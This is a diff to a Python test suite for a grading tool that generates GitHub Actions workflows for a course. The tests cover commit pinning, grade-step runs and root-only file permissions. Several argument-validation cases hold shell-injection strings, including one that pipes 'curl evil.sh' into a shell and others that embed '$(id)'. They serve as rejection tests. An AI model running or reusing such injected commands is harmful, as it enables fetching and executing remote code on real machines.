@@ -4,6 +4,7 @@ a machine without GitHub can: the same bash scripts, with git remotes on disk.""
 import json
 import os
 import re
+import shutil
 import subprocess
 import sys
 
@@ -14,8 +15,10 @@ from click.testing import CliRunner
 from grader.cli import main
 
 from classroom import WRONG, make_pack, make_student
+from paths import SOLUTIONS
 
 GRADER = "torch-loss-grader==0.1.0"
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
 SHELL = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c"]  # what `shell: bash` runs
 PATH = f"{os.path.dirname(sys.executable)}{os.pathsep}{os.environ['PATH']}"
 
@@ -66,8 +69,13 @@ def test_student_workflow_holds_no_secret(tmp_path):
     (["--day", 'day3"; curl evil.sh | sh; "'], "--day"),
     (["--day", "day3$(id)"], "--day"),
     (["--exercises", "../../etc"], "--exercises"),
-    (["--course-repo", "a/b", "--course-path", "x/$HOME"], "--course-path"),
+    (["--course-repo", f"a/b@{COMMIT}", "--course-path", "x/$HOME"], "--course-path"),
     (["--course-repo", "not a repo"], "owner/name"),
+    (["--course-repo", f"a/b;id@{COMMIT}"], "owner/name"),
+    (["--course-repo", "a/b"], "--course-repo 'a/b' is not pinned: give owner/name@<the 40-hex commit>"),
+    (["--course-repo", "a/b@main"], "is not pinned"),
+    (["--course-repo", f"a/b@{COMMIT[:12]}"], "is not pinned"),
+    (["--course-repo", f"a/b@{COMMIT}$(id)"], "is not pinned"),
     (["--secret", "COURSE_TOKEN"], "no secret"),
     (["--role", "instructor", "--deadline", "2026-12-01T23:59"], "time zone"),
     (["--role", "instructor", "--deadline", "tomorrow"], "ISO 8601"),
@@ -106,21 +114,73 @@ def test_a_pinned_grader_is_taken_as_it_is(tmp_path, spec):
     assert f'GRADER_SPEC: "{spec}"' in (tmp_path / ".github" / "workflows" / "grade-day3.yml").read_text()
 
 
-def test_student_grade_step_runs(tmp_path):
-    """The workflow's own Grade script, as the runner would run it, with the grader's own pack."""
+def _student_runner(tmp_path, *args):
+    """A student's repository with one wrong exercise, its workflow, and the runner's environment,
+    with a `grade` on PATH that logs each run before running the real one."""
     student = make_student(tmp_path / "subs", "ada", {"l1_loss": WRONG})
     (student / "exercises").mkdir()
     (student / "day3").rename(student / "exercises" / "day3")
-    _path, workflow = _init(student, "--fail-under", 1)
+    _path, workflow = _init(student, *args)
     runner_temp = tmp_path / "runner"
     runner_temp.mkdir()
-    summary = tmp_path / "step-summary.md"
+    shim = tmp_path / "bin" / "grade"
+    shim.parent.mkdir()
+    shim.write_text(f'#!/bin/sh\necho run >> "{tmp_path}/grade-runs"\nexec "{os.path.dirname(sys.executable)}/grade" "$@"\n')
+    shim.chmod(0o755)
     env = {**workflow["env"], "GITHUB_WORKSPACE": str(student), "RUNNER_TEMP": str(runner_temp),
-           "GITHUB_STEP_SUMMARY": str(summary), "GRADER_COURSE": str(make_pack(tmp_path))}
-    _run_step(_steps(workflow["jobs"]["grade"])["Grade"], env, runner_temp)
-    results = json.loads((runner_temp / "results.json").read_text())
-    assert [(t["name"], t["score"]) for t in results["tests"]] == [("mse_loss", 1.0), ("l1_loss", 0.0)]
-    assert "| ❌ | `l1_loss` |" in summary.read_text()
+           "GITHUB_STEP_SUMMARY": str(tmp_path / "step-summary.md"), "GITHUB_ENV": str(tmp_path / "github-env"),
+           "PATH": f"{shim.parent}{os.pathsep}{PATH}"}
+    return _steps(workflow["jobs"]["grade"]), env
+
+
+def _grade_step_reports(tmp_path, steps, env):
+    """The Grade step, run once: the two reports it uploads and the step summary, from one grading run."""
+    runner_temp = env["RUNNER_TEMP"]
+    _run_step(steps["Grade"], env, runner_temp)
+    assert (tmp_path / "grade-runs").read_text() == "run\n"
+    uploaded = steps["Upload the report"]["with"]["path"].replace("${{ runner.temp }}", runner_temp).split()
+    assert [os.path.basename(p) for p in uploaded] == ["results.json", "summary.md"]
+    results = json.loads(open(uploaded[0]).read())
+    assert open(uploaded[1]).read() == (tmp_path / "step-summary.md").read_text().rstrip("\n") + "\n"
+    return [(t["name"], t["score"]) for t in results["tests"]], open(uploaded[1]).read()
+
+
+def test_student_grade_step_runs(tmp_path):
+    """The workflow's own Grade script, as the runner would run it, with the grader's own pack:
+    one grading run writes both reports."""
+    steps, env = _student_runner(tmp_path, "--fail-under", 1)
+    scores, summary = _grade_step_reports(tmp_path, steps, {**env, "GRADER_COURSE": str(make_pack(tmp_path))})
+    assert scores == [("mse_loss", 1.0), ("l1_loss", 0.0)]
+    assert "| ❌ | `l1_loss` |" in summary
+
+
+def test_student_grade_step_fails_under(tmp_path):
+    steps, env = _student_runner(tmp_path, "--fail-under", 60)
+    proc = subprocess.run([*SHELL, steps["Grade"]["run"]], cwd=env["RUNNER_TEMP"], capture_output=True, text=True,
+                          env={**os.environ, **env, "GRADER_COURSE": str(make_pack(tmp_path))}, timeout=300)
+    assert proc.returncode == 1 and "score 50.0% is below --fail-under 60%: exit 1" in proc.stderr, proc.stderr
+    assert (tmp_path / "runner" / "results.json").is_file() and (tmp_path / "runner" / "summary.md").is_file()
+
+
+def test_student_practice_pack_is_fetched_at_its_pinned_commit(tmp_path):
+    """The branch moves on (the pack drops l1_loss); the workflow still grades with the commit it names."""
+    work = tmp_path / "practice"
+    make_pack(work)
+    _git("init", "-q", "-b", "main", cwd=work)
+    _git("add", "-A", cwd=work)
+    _git("commit", "-qm", "pack", cwd=work)
+    pinned = subprocess.run(["git", "rev-parse", "HEAD"], cwd=work, capture_output=True, text=True).stdout.strip()
+    day = work / "course" / "day3" / "day.yaml"
+    day.write_text(day.read_text().replace("- l1_loss\n", ""))
+    _git("commit", "-qam", "moved on", cwd=work)
+    _git("clone", "-q", "--bare", str(work), str(tmp_path / "remotes" / "org" / "practice.git"), cwd=tmp_path)
+    steps, env = _student_runner(tmp_path, "--course-repo", f"org/practice@{pinned.upper()}", "--course-path", "course")
+    assert env["COURSE_COMMIT"] == pinned
+    env["GIT_BASE"] = f"file://{tmp_path / 'remotes'}"
+    _run_step(steps["Fetch the public practice pack at its pinned commit"], env, tmp_path)
+    course = (tmp_path / "github-env").read_text().strip().removeprefix("GRADER_COURSE=")
+    scores, _summary = _grade_step_reports(tmp_path, steps, {**env, "GRADER_COURSE": course})
+    assert scores == [("mse_loss", 1.0), ("l1_loss", 0.0)]
 
 
 def test_instructor_workflow_structure(tmp_path):
@@ -141,6 +201,12 @@ def test_instructor_workflow_structure(tmp_path):
     assert merge["needs"] == "grade" and merge["if"] == "always()"
     assert any("grade merge" in s.get("run", "") for s in merge["steps"])
     assert "${{" not in "".join(s.get("run", "") for job in workflow["jobs"].values() for s in job["steps"])
+
+
+def _only_root_reads(workspace):
+    """No path of the checkout grants anything to group or others, so a graded job, running as a uid
+    of its own, cannot read a reference solution or the roster."""
+    assert [p for p in [workspace, *workspace.rglob("*")] if p.lstat().st_mode & 0o077] == []
 
 
 def _git(*args, cwd, date=None):
@@ -175,13 +241,15 @@ def test_instructor_steps_fetch_grade_and_merge(tmp_path):
     repo = tmp_path / "instructor"
     make_pack(repo, quiz=True)
     (repo / "roster.txt").write_text("# students\norg/day3-ada\norg/day3-bob\norg/day3-gone\n")
+    shutil.copytree(SOLUTIONS, repo / "solutions")  # what a course's private repository also holds
     _path, workflow = _init(repo, "--role", "instructor", "--deadline", "2026-12-01T23:59:00Z", "--shards", 2)
     runner_temp = tmp_path / "runner"
     runner_temp.mkdir()
-    env = {**workflow["env"], "RUNNER_TEMP": str(runner_temp), "GIT_BASE": f"file://{remotes}",
+    env = {**workflow["env"], "RUNNER_TEMP": str(runner_temp), "GIT_BASE": f"file://{remotes}", "GITHUB_WORKSPACE": str(repo),
            "STUDENTS_TOKEN": "not-a-real-token", "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md")}
     steps = _steps(workflow["jobs"]["grade"])
-    _run_step(steps["Keep the course pack readable by root only"], env, repo)
+    _run_step(steps["Keep the checkout (pack, solutions, roster) readable by root only"], env, repo)
+    _only_root_reads(repo)
     _run_step(steps["Fetch each student's last commit before the deadline"], env, repo)
     submissions = runner_temp / "submissions"
     assert sorted(p.name for p in submissions.iterdir()) == ["day3-ada", "day3-bob", "day3-gone"]
